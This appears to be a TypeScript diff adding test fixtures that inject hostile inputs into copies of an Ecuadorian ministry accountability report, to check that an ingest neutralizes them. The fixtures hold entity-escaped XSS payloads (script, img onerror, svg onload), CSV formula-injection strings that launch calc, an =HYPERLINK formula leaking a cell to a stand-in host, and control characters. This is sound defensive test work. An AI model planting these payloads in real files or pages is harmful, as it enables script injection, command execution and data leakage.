@@ -58,3 +58,84 @@ export function hostileReport(source = readFileSync(HOSTILE_SOURCE, 'utf8')): st
   // Its verification links point to another domain, so the institution is not inferred from them.
   return text.replaceAll('ministeriodelinterior.gob.ec', 'ministerio-hostil.example');
 }
+
+// ---------------------------------------------------------------- issue 15: what the ingest must neutralize
+
+/** Payloads a careless publisher's HTML export writes entity-escaped: the ingest decodes them once. */
+export const ESCAPED_PAYLOADS = {
+  script: '&lt;script&gt;alert(1)&lt;/script&gt;',
+  img: '&lt;img src=x onerror=alert(1)&gt;',
+  numeric: '&#60;svg onload=alert(1)&#62;',
+} as const;
+
+/** Spreadsheet formulas (OWASP CSV injection examples). */
+export const FORMULAS = {
+  hyperlink: '=HYPERLINK("http://x.example/?leak="&A1,"clic")',
+  cmd: "+1+cmd|' /C calc'!A0",
+  minus: "-2+3+cmd|' /C calc'!A0",
+  at: '@SUM(1+1)*cmd|\' /C calc\'!A0',
+} as const;
+
+/** Control characters a broken export leaves in text (ESC, BEL, NUL, vertical tab). */
+export const CONTROLS = '\x1b[31m\x07\x00\x0b';
+
+export const ESCAPED_FILE = '2023-ministerio-escapado-rendicion-de-cuentas.txt';
+export const FORMULA_FILE = '2023-ministerio-formulas-rendicion-de-cuentas.txt';
+export const HUGE_FILE = '2023-ministerio-enorme-rendicion-de-cuentas.txt';
+/** Budget lines in the huge copy. */
+export const HUGE_ROWS = 100_000;
+
+/** Replaces each `from` once; throws when the source lacks one. */
+function edit(source: string, edits: [string, string][], domain: string): string {
+  let text = source.replace(/\r\n/g, '\n');
+  for (const [from, to] of edits) {
+    const at = text.indexOf(from);
+    if (at < 0) throw new Error(`hostile report: text not found in ${HOSTILE_SOURCE}: ${JSON.stringify(from)}`);
+    text = text.slice(0, at) + to + text.slice(at + from.length);
+  }
+  return text.replaceAll('ministeriodelinterior.gob.ec', domain);
+}
+
+/** Entity-escaped markup and control characters in the name, goals, budget and procurement. */
+export function escapedReport(source = readFileSync(HOSTILE_SOURCE, 'utf8')): string {
+  return edit(source, [
+    ['NOMBRE DE LA INSTITUCIÓN:\tMINISTERIO DEL INTERIOR', `NOMBRE DE LA INSTITUCIÓN:\tMINISTERIO ESCAPADO ${ESCAPED_PAYLOADS.script}${CONTROLS} ${ESCAPED_PAYLOADS.img}`],
+    ['RUC:\t1798194735001', 'RUC:\t1799999998001'],
+    ['1.1. NÚMERO DE ESTRATÉGIAS DE PREVENCIÓN', `1.1. NÚMERO DE ESTRATÉGIAS ${ESCAPED_PAYLOADS.numeric} DE PREVENCIÓN${CONTROLS}`],
+    ['PROGRAMA Y/O PROYECTO\tEgresos en personal\t', `PROGRAMA Y/O PROYECTO\tEgresos en personal ${ESCAPED_PAYLOADS.script}\t`],
+    ['COTIZACIÓN\t4\t', `COTIZACIÓN ${ESCAPED_PAYLOADS.img}${CONTROLS}\t4\t`],
+    ['ENAJENACIÓN\tInmueble\t', `ENAJENACIÓN\tInmueble ${ESCAPED_PAYLOADS.script}\t`],
+  ], 'ministerio-escapado.example');
+}
+
+/** Formulas as the institution name, a goal, a budget line, a procurement type, a disposal. */
+export function formulaReport(source = readFileSync(HOSTILE_SOURCE, 'utf8')): string {
+  return edit(source, [
+    ['NOMBRE DE LA INSTITUCIÓN:\tMINISTERIO DEL INTERIOR', `NOMBRE DE LA INSTITUCIÓN:\t${FORMULAS.hyperlink}`],
+    ['RUC:\t1798194735001', 'RUC:\t1799999997001'],
+    ['1.1. NÚMERO DE ESTRATÉGIAS DE PREVENCIÓN', FORMULAS.cmd],
+    ['PROGRAMA Y/O PROYECTO\tEgresos en personal\t', `PROGRAMA Y/O PROYECTO\t${FORMULAS.at}\t`],
+    ['PROGRAMA Y/O PROYECTO\tOtros Pasivos\t', `PROGRAMA Y/O PROYECTO\t${FORMULAS.minus}\t`],
+    ['COTIZACIÓN\t4\t', `${FORMULAS.hyperlink}\t4\t`],
+    ['ENAJENACIÓN\tInmueble\t', `ENAJENACIÓN\t${FORMULAS.cmd}\t`],
+  ], 'ministerio-formulas.example');
+}
+
+/**
+ * A budget table of HUGE_ROWS lines (line i, from 0: planned 2 × ($500,00 + i cents), executed
+ * $500,00 + i cents, 50,00 %), in place of the report's 8 lines, under another name and RUC.
+ */
+export function hugeReport(source = readFileSync(HOSTILE_SOURCE, 'utf8')): string {
+  const first = 'PROGRAMA Y/O PROYECTO\tEgresos en personal\t';
+  const text = edit(source, [
+    ['NOMBRE DE LA INSTITUCIÓN:\tMINISTERIO DEL INTERIOR', 'NOMBRE DE LA INSTITUCIÓN:\tMINISTERIO ENORME'],
+    ['RUC:\t1798194735001', 'RUC:\t1799999996001'],
+  ], 'ministerio-enorme.example');
+  const lines = text.split('\n');
+  const at = lines.findIndex((l) => l.startsWith(first));
+  const end = lines.findIndex((l, i) => i > at && l.startsWith('Total\t'));
+  if (at < 0 || end < 0) throw new Error('hostile report: budget table not found');
+  const money = (cents: number) => `\\$${Math.floor(cents / 100).toLocaleString('es-EC').replace(/\s/g, '.')},${String(cents % 100).padStart(2, '0')}`;
+  const rows = Array.from({ length: HUGE_ROWS }, (_, i) => `PROGRAMA Y/O PROYECTO\tLínea presupuestaria ${i + 1}\t${money(2 * (50_000 + i))}\t${money(50_000 + i)}\t50,00 %\t`);
+  return [...lines.slice(0, at), ...rows, ...lines.slice(end)].join('\n');
+}
